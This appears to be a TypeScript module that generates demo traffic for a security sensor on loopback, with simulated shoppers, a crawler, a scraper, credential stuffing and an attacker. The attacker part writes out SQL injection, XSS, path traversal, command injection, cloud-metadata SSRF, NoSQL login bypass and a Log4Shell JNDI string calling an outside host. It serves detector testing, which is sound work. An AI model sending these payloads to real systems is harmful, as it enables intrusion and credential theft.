/**
 * The demo's traffic: a short, bounded script of realistic clients sent through the sensor, so the
 * console opens on sessions worth exploring. Loopback only; each client's IP is simulated with
 * `X-Forwarded-For`, which the sensor believes from 127.0.0.1 (in the demo config's
 * `trustedProxies`). The thresholds it crosses are those of config/sensor.yaml's `insight.abuse`
 * (and the defaults): 20 404s over 15 paths or 3 scanner probes make a crawler, 100 product ids at
 * machine rate a scraper, 10 failed logins an account takeover.
 */
import { Agent, request } from 'undici'

/** Who the script plays, in the order their sessions begin. */
export const DEMO_CLIENTS = {
  alice: { ip: '203.0.113.10', ua: 'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15' },
  /** alice again, on her phone's network: the same session cookie from a second IP */
  aliceMobile: { ip: '198.51.100.23', ua: 'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15' },
  bob: { ip: '203.0.113.24', ua: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36' },
  carol: { ip: '192.0.2.31', ua: 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0' },
  /** browses anonymously, then logs in as dave: one session (login continuity) */
  visitor: { ip: '192.0.2.44', ua: 'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1' },
  crawler: { ip: '198.51.100.66', ua: 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:map_codes)' },
  scraper: { ip: '198.51.100.77', ua: 'python-requests/2.32.3' },
  stuffer: { ip: '203.0.113.200', ua: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36' },
  attacker: { ip: '192.0.2.99', ua: 'curl/8.5.0' },
} as const

type DemoClient = keyof typeof DEMO_CLIENTS

export interface TrafficSummary {
  /** requests sent (each got an answer) */
  requests: number
  /** requests that failed on the way (no answer) */
  failed: number
  clients: number
  ms: number
}

export interface TrafficOptions {
  /** http://host:port of the sensor's proxy */
  proxy: string
  /** the whole script stops when this is aborted (the default: 30 s) */
  signal?: AbortSignal
}

/** Paths a crawler tries that the shop does not have: each a 404. */
const CRAWLED = [
  '/admin', '/admin/login', '/administrator', '/backup', '/backup.old', '/old', '/test', '/dev', '/staging', '/api/v1',
  '/api/v1/users', '/api/internal', '/api/debug', '/api/swagger.json', '/swagger-ui.html', '/graphql', '/console', '/login.php', '/user/login', '/api/admin',
]
/** Scanner probes: paths only scanners ask for. */
const PROBES = ['/.env', '/.git/config', '/wp-config.php', '/phpmyadmin/', '/server-status', '/actuator/env']
/** A leaked list: names and passwords that are not the shop's. */
const LEAKED = [
  ['admin', 'admin'], ['root', 'toor'], ['test', 'test123'], ['alice', 'alice2020'], ['bob', 'qwerty'], ['carol', 'password1'], ['dave', '123456'],
  ['info', 'info'], ['support', 'letmein'], ['sales', 'welcome1'], ['jdoe', 'Summer2024!'], ['webmaster', 'iloveyou'], ['guest', 'guest'],
] as const

interface Exchange {
  status: number
  body: string
  setCookie: string | undefined
}

type Send = (who: Client, method: string, path: string, body?: unknown, headers?: Record<string, string>) => Promise<Exchange>

class Client {
  cookie: string | undefined
  readonly who: (typeof DEMO_CLIENTS)[DemoClient]
  readonly send: Send
  constructor(who: (typeof DEMO_CLIENTS)[DemoClient], send: Send) {
    this.who = who
    this.send = send
  }

  get(path: string, headers?: Record<string, string>): Promise<Exchange> {
    return this.send(this, 'GET', path, undefined, headers)
  }

  post(path: string, body: unknown): Promise<Exchange> {
    return this.send(this, 'POST', path, body)
  }

  async login(username: string, password = 'demo'): Promise<Exchange> {
    const answer = await this.post('/api/login', { username, password })
    const session = answer.setCookie === undefined ? undefined : /^(session=[^;]+)/.exec(answer.setCookie)?.[1]
    if (session !== undefined) this.cookie = session
    return answer
  }
}

/** Runs the script once through the sensor at `proxy`; resolves when every client is done. */
export async function runDemoTraffic(options: TrafficOptions): Promise<TrafficSummary> {
  const started = Date.now()
  const signal = options.signal ?? AbortSignal.timeout(30_000)
  const agent = new Agent({ connections: 4, keepAliveTimeout: 1_000 })
  const origin = new URL(options.proxy).origin
  let requests = 0
  let failed = 0
  const send = async (client: Client, method: string, path: string, body?: unknown, extra: Record<string, string> = {}): Promise<Exchange> => {
    signal.throwIfAborted()
    const headers: Record<string, string> = { 'user-agent': client.who.ua, 'x-forwarded-for': client.who.ip, accept: 'application/json', ...extra }
    if (client.cookie !== undefined) headers.cookie = client.cookie
    if (body !== undefined) headers['content-type'] = 'application/json'
    try {
      const res = await request(`${origin}${path}`, { method, headers, body: body === undefined ? undefined : JSON.stringify(body), dispatcher: agent, signal })
      const text = await res.body.text()
      requests++
      const setCookie = res.headers['set-cookie']
      return { status: res.statusCode, body: text, setCookie: Array.isArray(setCookie) ? setCookie[0] : setCookie }
    } catch (err) {
      if (signal.aborted) throw err
      failed++
      return { status: 0, body: '', setCookie: undefined }
    }
  }
  const client = (name: DemoClient) => new Client(DEMO_CLIENTS[name], send)

  const shopper = async (name: 'alice' | 'bob' | 'carol', browse: string[]) => {
    const c = client(name)
    await c.get('/api')
    await c.login(name)
    for (const path of browse) await c.get(path)
    return c
  }

  try {
    await Promise.all([
      // alice browses, checks her orders (a deprecated endpoint: zombie), then goes on from a second IP
      (async () => {
        const alice = await shopper('alice', ['/api/products', '/api/products/3', '/api/products/7', '/api/orders'])
        const mobile = client('aliceMobile')
        mobile.cookie = alice.cookie
        for (const path of ['/api/products', '/api/products/1', '/api/orders']) await mobile.get(path)
      })(),
      shopper('bob', ['/api/products', '/api/products/2', '/api/products/2', '/api/health']).then((bob) => bob.post('/api/echo', { note: 'gift wrap, please' })), // /api/echo is not in the spec: shadow
      shopper('carol', ['/api/products', '/api/products/1', '/api/products/7', '/api/products/3']),
      // an anonymous visitor who then logs in (as dave): the steps before and after read as one session
      (async () => {
        const visitor = client('visitor')
        for (const path of ['/', '/api/products', '/api/products/7', '/api/products/2']) await visitor.get(path)
        await visitor.login('dave')
        await visitor.get('/api/orders')
      })(),
      // a crawler: scanner probes and a burst of 404s over many paths
      (async () => {
        const crawler = client('crawler')
        for (const path of ['/', ...PROBES, ...CRAWLED]) await crawler.get(path)
      })(),
      // a scraper walking the catalogue at machine rate
      (async () => {
        const scraper = client('scraper')
        await scraper.get('/api/products')
        for (let id = 1; id <= 120; id++) await scraper.get(`/api/products/${id}`)
      })(),
      // credential stuffing: a leaked list against the login
      (async () => {
        const stuffer = client('stuffer')
        await stuffer.get('/api')
        for (const [username, password] of LEAKED) await stuffer.login(username, password)
      })(),
      // a handful of attacks, each a class the detector knows
      (async () => {
        const attacker = client('attacker')
        await attacker.get(`/api/products?q=${encodeURIComponent("shoes' OR '1'='1")}`)
        await attacker.get(`/api/products?q=${encodeURIComponent('<script>alert(document.cookie)</script>')}`)
        await attacker.get(`/api/products?image=${encodeURIComponent('../../../../etc/passwd')}`)
        await attacker.get(`/api/products?sort=${encodeURIComponent('name;cat /etc/passwd')}`)
        await attacker.post('/api/echo', { avatarUrl: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/' })
        await attacker.post('/api/login', { username: { $ne: null }, password: { $ne: null } })
        await attacker.get('/api/products', { 'x-api-version': '${jndi:ldap://198.51.100.9:1389/a}' })
      })(),
    ])
  } finally {
    await agent.close()
  }
  return { requests, failed, clients: Object.keys(DEMO_CLIENTS).length - 1, ms: Date.now() - started }
}
